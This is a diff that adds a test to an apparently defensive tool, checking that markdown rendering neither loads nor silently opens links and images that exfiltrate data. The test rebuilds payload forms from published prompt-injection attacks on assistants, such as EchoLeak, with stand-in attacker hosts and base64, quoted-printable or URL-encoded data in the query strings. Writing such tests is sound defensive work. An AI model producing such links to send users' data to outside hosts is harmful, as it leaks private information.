@@ -8,9 +8,14 @@ encoders of a published scanner of models hid it.
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
+import quopri
 import re
+from collections.abc import Callable
+from html import unescape
 from ipaddress import ip_address
+from itertools import product
 from typing import Any
 from unicodedata import decimal, normalize
 from urllib.parse import quote
@@ -159,3 +164,37 @@ def test_words_are_found_in_look_alikes() -> None:
 )  # fmt: skip
 def test_what_is_no_disguise_tells_nothing(said: str) -> None:
     assert compare(said) == compare(quote(said)) == LeavingWords()
+
+
+#: The forms of links and images by which published attacks (EchoLeak and others, as garak 0.17.1
+#: lists them) had assistants send words away, their hosts, texts and encodings.
+FORMS = [
+    sign + form
+    for sign in ("", "!")
+    for form in (
+        "[{text}]({url})", "[{text}][ref]\n\n[ref]: {url}", "[{text}][]\n\n[{text}]: {url}",
+        "[{text}][{text}]\n\n[{text}]: {url}",
+    )
+]  # fmt: skip
+DOMAINS = ("wuzzi.net", "derczynski.com", "llmsec.net", "suspicious.domain.security")
+TEXTS = ("Link display text", "t", "Hello", "Click here", "Data")
+ENCODINGS: dict[str, Callable[[bytes], str]] = {
+    "base64": lambda data: base64.b64encode(data).decode(),
+    "quoted-printable": lambda data: quopri.encodestring(data, quotetabs=True).decode(),
+    "URL": quote,
+}
+PLACES = ("logo.png?q=", "azure=", "?sales=")
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_no_published_way_out_by_markdown_is_loaded_or_opens_unasked(form: str) -> None:
+    data = HIDDEN["text"].encode()
+    for domain, text, how, at in product(DOMAINS, TEXTS, ENCODINGS, PLACES):
+        url = f"https://{domain}/{at}{quote(ENCODINGS[how](data))}"
+        page = render_markdown(form.format(text=text, url=url))
+        assert "<img" not in page
+        (href,) = re.findall('href="([^"]*)"', page)
+        assert f'<span class="host">{domain}</span>' in page
+        found = Arguments({"url": unescape(href)}, receiver=domain).find(TEXT, "typed:")
+        assert "kx4711902" in name(found)
+        assert found.is_telling
